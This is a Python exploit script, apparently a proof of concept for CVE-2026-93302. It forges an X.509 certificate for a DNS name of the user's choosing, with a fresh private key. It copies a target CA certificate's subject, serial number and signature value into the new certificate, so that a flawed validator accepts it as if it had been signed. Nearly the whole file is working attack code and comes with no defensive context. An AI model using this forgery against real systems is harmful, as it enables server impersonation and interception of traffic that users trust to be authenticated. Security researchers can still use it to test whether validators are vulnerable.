#!/usr/bin/python3
"""A certificate with a key of our own for a name of our choice, that carries the subject, the serial number and the
signature value of somebody's self-signed certificate: nobody signed it (CVE-2026-93302).

usage: forge-certificate.py CA-PEM NAME OUT-PEM OUT-KEY
"""

import datetime
import ssl
import sys

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa


def length(n):
    if n < 128:
        return bytes([n])
    octets = n.to_bytes((n.bit_length() + 7) // 8, 'big')
    return bytes([0x80 | len(octets)]) + octets


def element(octets):
    """The first DER element, and what is behind it."""
    size, at = octets[1], 2
    if size & 0x80:
        at += size & 0x7F
        size = int.from_bytes(octets[2:at], 'big')
    return octets[:at + size], octets[at + size:]


def parts(certificate):
    """tbsCertificate, signatureAlgorithm, signatureValue."""
    der = certificate.public_bytes(serialization.Encoding.DER)
    inner = der[2 + (der[1] & 0x7F if der[1] & 0x80 else 0):]
    tbs, rest = element(inner)
    algorithm, rest = element(rest)
    return tbs, algorithm, element(rest)[0]


ca_path, name, out, key_out = sys.argv[1:]
with open(ca_path, 'rb') as file:
    ca = x509.load_pem_x509_certificate(file.read())
# Of the CA's kind, as a certificate names the signature's algorithm twice.
key = (rsa.generate_private_key(65537, 2048) if isinstance(ca.public_key(), rsa.RSAPublicKey)
       else ec.generate_private_key(ec.SECP256R1()))
now = datetime.datetime.utcnow()
own = (x509.CertificateBuilder().subject_name(ca.subject).issuer_name(ca.issuer).public_key(key.public_key())
       .serial_number(ca.serial_number).not_valid_before(now - datetime.timedelta(days=1))
       .not_valid_after(now + datetime.timedelta(days=20))
       .add_extension(x509.SubjectAlternativeName([x509.DNSName(name)]), False).sign(key, hashes.SHA256()))
body = parts(own)[0] + parts(ca)[1] + parts(ca)[2]
with open(out, 'w', encoding='ascii') as file:
    file.write(ssl.DER_cert_to_PEM_cert(b'\x30' + length(len(body)) + body))
with open(key_out, 'wb') as file:
    file.write(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                 serialization.NoEncryption()))
